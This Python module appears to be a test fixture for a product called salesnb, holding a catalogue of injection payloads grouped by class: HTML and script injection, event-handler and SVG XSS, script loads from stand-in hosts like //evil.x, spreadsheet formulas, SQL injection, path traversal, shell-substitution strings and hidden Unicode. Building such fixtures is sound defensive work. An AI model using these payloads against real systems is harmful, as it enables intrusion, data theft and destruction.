r"""Payloads: texts that would do something if any of the readers on their way took them for more than text.

Each would set ``window.__pwned``, open a dialog, fetch something, change the page or be computed. None is an element,
a formula or a command to salesnb; all of them are somebody's product.
"""

from __future__ import annotations

CLASSES: dict[str, tuple[str, ...]] = {
    "markup": (
        "<b>bold</b>",
        "<h1>Buy</h1>",
        "</td></tr></table><p>out",
        "<a href=https://evil.example>go</a>",
        "<marquee>run</marquee>",
        "<plaintext>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.x>",
        "<form action=//evil.x><input autofocus>",
        "<link rel=stylesheet href=//evil.x/a.css>",
        "<style>*{display:none}</style>",
    ),
    "script": (
        "<script>__pwned=1</script>",
        "<ScRiPt>window.__pwned=1</sCrIpT>",
        "<script src=//evil.x/a.js></script>",
        "<scr<script>ipt>__pwned=1</script>",
        "</script><script>alert(1)</script>",
        "');__pwned=1;('",
        "import('//evil.x/a.js')",
    ),
    "event handlers": (
        "<img src=x onerror=__pwned=1>",
        "<body onload=__pwned=1>",
        "<details open ontoggle=__pwned=1>",
        "<input autofocus onfocus=__pwned=1>",
        "<video><source onerror=__pwned=1></video>",
        "<p onpointerenter=alert(1)>over</p>",
        "<img/src='x'/onerror=\"__pwned=1\">",
    ),
    "svg and mathml": (
        "<svg onload=__pwned=1>",
        "<svg><script>__pwned=1</script></svg>",
        "<svg><a xlink:href='javascript:__pwned=1'>x</a>",
        "<svg><animate onbegin=__pwned=1 attributeName=x>",
        "<svg><use href='//evil.x/a.svg#b'/></svg>",
        "<math><mi xlink:href='javascript:__pwned=1'>x",
        "]]></text><image href='//evil.x/p.png'/>",
    ),
    "frames": (
        "<iframe src=javascript:__pwned=1>",
        "<iframe srcdoc='<script>top.__pwned=1</script>'>",
        "<object data=//evil.x></object>",
        "<embed src=//evil.x>",
    ),
    "addresses": (
        "javascript:__pwned=1",
        "JaVaScRiPt:alert(1)//",
        "data:text/html,<script>__pwned=1</script>",
        "vbscript:msgbox(1)",
        "https://evil.example/?q=<x>",
        "//evil.example/a",
    ),
    "css": (
        "background:url(//evil.x/a.png)",
        "width:expression(__pwned=1)",
        "}</style><script>__pwned=1</script>",
        "@import '//evil.x/a.css';",
    ),
    "templates": ("{{7*7}}", "${7*7}", "{% raw %}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%s%n%(x)s"),
    "breakers": (
        "--><script>__pwned=1</script>",
        "<!--",
        "<![CDATA[",
        "]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE a [<!ENTITY b 'c'>]>&b;",
        '" onmouseover="__pwned=1',
        "' autofocus onfocus='__pwned=1",
        '"><img src=y onerror=__pwned=1>',
        "`-alert(1)-`",
    ),
    "entities": (
        "&lt;script&gt;__pwned=1&lt;/script&gt;",
        "&#60;img src=x onerror=__pwned=1&#62;",
        "&amp;lt;b&amp;gt;",
        "java&#x0A;script:__pwned=1",
        "%3Cscript%3E__pwned=1%3C/script%3E",
    ),
    "mutations": (
        "<noscript><p title='</noscript><img src=x>'>",
        "<title><img src=x onerror=__pwned=1></title>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<math><style><!--</style><img src=x>",
        "<svg></p><style><g title='</style><img src=x>'>",
        "<template><script>__pwned=1</script>",
    ),
    "hidden characters": (
        "bell\x07back\x08space",
        "unit\x1fsplit\x7fdelete\x85next",
        "over\u202eride\u202c",
        "iso\u2066late\u2069",
        "mark\u200e\u200f\u061cs",
        "byte\ufeffmark",
        "zero\u200bwidth\u200djoin\u2060er",
        "line\u2028paragraph\u2029end",
        "not\uffff\ufffea character",
    ),
    "terminals": ("\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2Jcleared"),
    "formulas": ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=2+2", "\r=3+3", '=HYPERLINK("//evil.x","a")'),
    "databases": ("'; DROP TABLE reps; --", "x' OR '1'='1", "1); SELECT getenv('HOME')"),
    "paths and shells": (
        "../../etc/passwd",
        "..\\..\\win.ini",
        "$(touch pwned)",
        "`touch pwned`",
        "; rm -rf x",
        "| cat",
    ),
    "markdown": (
        "[go](javascript:__pwned=1)",
        "![p](//evil.x/p.png)",
        "# Title",
        "**strong** _em_ `code`",
        "| a | b |",
    ),
    "mathematics": ("$x^2$", r"\(x^2\)", "$$\\frac{1}{0}$$", r"$\undefined{", r"cost \$5 and $6", r"\begin{a}"),
    "long words": ("W" * 300, "\U0001f469\u200d\U0001f4bb" * 20, "a\u0301\u0323\u0330" * 15),
}
"""Every payload by what it tries."""

PAYLOADS: tuple[str, ...] = tuple(payload for payloads in CLASSES.values() for payload in payloads)
"""All of them, in order."""
